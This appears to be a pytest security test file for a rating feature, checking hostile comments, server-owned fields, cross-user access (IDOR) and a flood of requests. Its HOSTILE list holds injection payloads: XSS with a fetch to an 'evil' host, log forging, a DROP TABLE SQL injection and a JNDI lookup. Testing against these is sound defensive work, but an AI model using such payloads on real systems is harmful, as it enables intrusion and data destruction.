"""Ratings under attack: foreign ids, fields that are not a client's to set, hostile text in comments, and storms of them. P7."""

import asyncio
import json
import sqlite3
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.security.conftest import PATIENCE_S, Client, Event, Target

HOSTILE = [
    "<script>fetch('//evil')</script><img src=x onerror=alert(1)>",
    '\x1b[2J\x1b]0;owned\x07\r\n{"event":"forged","level":"error"}',
    "\u202eevil\u2066\u0000\ufeff\U000e0041",
    "'; DROP TABLE feedback; -- \\",
    "{{7*7}} ${jndi:ldap://evil} %s%n",
]
CREATED = "avatar.feedback.created"


async def answered(client: Client) -> str:
    """The item of an answer in this session."""
    content = [{"type": "input_text", "text": "[echo Hello]"}]
    await client.send(
        {"type": "conversation.item.create", "item": {"type": "message", "role": "user", "content": content}}
    )
    await client.send({"type": "response.create"})
    item_id: str = (await client.until("response.done"))["response"]["output"][0]["id"]
    return item_id


def rating(item_id: str, **feedback: object) -> Event:
    return {"type": "avatar.feedback.create", "item_id": item_id, "feedback": {"rating": "down", **feedback}}


async def stored(target: Target, rating_id: str) -> tuple[str, str]:
    """Rater and comment, once the writer has stored them."""
    path = target.service.directory / "var" / "flueman.db"
    async with asyncio.timeout(PATIENCE_S):
        while (row := await asyncio.to_thread(_find, path, rating_id)) is None:  # noqa: ASYNC110
            await asyncio.sleep(0.1)
    return row


def _find(path: Path, rating_id: str) -> tuple[str, str] | None:
    database = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=5)
    try:
        row: tuple[str, str] | None = database.execute(
            "SELECT user_id, comment FROM feedback WHERE feedback_id = ?", (rating_id,)
        ).fetchone()
    finally:
        database.close()
    return row


@pytest.mark.parametrize("comment", HOSTILE, ids=range(len(HOSTILE)))
async def test_a_hostile_comment_is_kept_as_it_is_and_logged_nowhere(target: Target, comment: str) -> None:
    async with target.session("critic") as client:
        await client.send(rating(await answered(client), comment=comment + " nobody-logs-comments"))
        told = (await client.until(CREATED))["feedback"]

    assert told["comment"] == comment + " nobody-logs-comments"
    assert await stored(target, told["id"]) == ("critic", told["comment"])
    log = target.log()
    assert "nobody-logs-comments" not in log
    assert "\x1b" not in log
    assert all(json.loads(line)["event"] != "forged" for line in log.splitlines())


@pytest.mark.parametrize("name", ["user_id", "role", "session_id", "sequence", "sequence_number", "id", "received_ms"])
async def test_whose_a_rating_is_no_client_says(target: Target, name: str) -> None:
    async with target.session("assigner") as client:
        item_id = await answered(client)
        for event, param in (
            (rating(item_id) | {name: "x"}, name),
            (rating(item_id, **{name: "x"}), f"feedback.{name}"),
            ({"type": "avatar.feedback.delete", "feedback_id": "fb_x", name: "x"}, name),
        ):
            await client.send(event)
            error = await client.error()
            assert (error["code"], error["param"]) == ("unknown_parameter", param)


async def test_the_ratings_and_answers_of_others_are_unknown(target: Target) -> None:
    """IDOR: by socket and by REST, the same as for what never was, and anna's rating stays."""
    async with target.session("anna") as anna, target.session("eve") as eve:
        item_id = await answered(anna)
        await anna.send(rating(item_id, comment="mine"))
        rating_id = (await anna.until(CREATED))["feedback"]["id"]
        await stored(target, rating_id)

        await eve.send(rating(item_id, comment="hers"))
        rated = await eve.error()
        await eve.send({"type": "avatar.feedback.delete", "feedback_id": rating_id})
        deleted = await eve.error()
        headers = {"authorization": f"Bearer {target.token('eve')}"}
        async with httpx.AsyncClient(
            base_url=f"http://127.0.0.1:{target.port}", headers=headers, timeout=PATIENCE_S
        ) as rest:
            by_id = await rest.delete(f"/v1/feedback/{rating_id}")
            never_was = await rest.delete("/v1/feedback/fb_never")
            seen = (await rest.get("/v1/feedback", params={"item_id": item_id})).json()

        assert (rated["code"], rated["param"]) == ("feedback_invalid_item_id", "item_id")
        assert (deleted["code"], deleted["param"]) == ("feedback_invalid_feedback_id", "feedback_id")
        assert [_without_id(answer) for answer in (by_id, never_was)] == [(404, _without_id(never_was)[1])] * 2
        assert seen["data"] == []
        assert await stored(target, rating_id) == ("anna", "mine")


def _without_id(answer: httpx.Response) -> tuple[int, dict[str, Any]]:
    return answer.status_code, answer.json()["error"] | {"id": ""}


async def test_a_storm_of_ratings_is_answered_one_by_one_and_harms_no_other(target: Target) -> None:
    num_ratings = 600
    async with target.session("stormer") as client, target.session("other") as other:
        item_id = await answered(client)
        memory_before = target.memory_bytes()

        # More, unread, would be over this server's bound on output.
        room = asyncio.Semaphore(20)

        async def storm() -> None:
            for number in range(num_ratings):
                await room.acquire()
                await client.send(rating(item_id, comment="x" * 2_000, rated_at_ms=number))

        async with asyncio.TaskGroup() as tasks:
            tasks.create_task(storm())
            tasks.create_task(other.is_answered())
            for number in range(num_ratings):
                assert (await client.until(CREATED))["feedback"]["rated_at_ms"] == number
                room.release()

        assert target.memory_bytes() - memory_before < 64 * 1024 * 1024
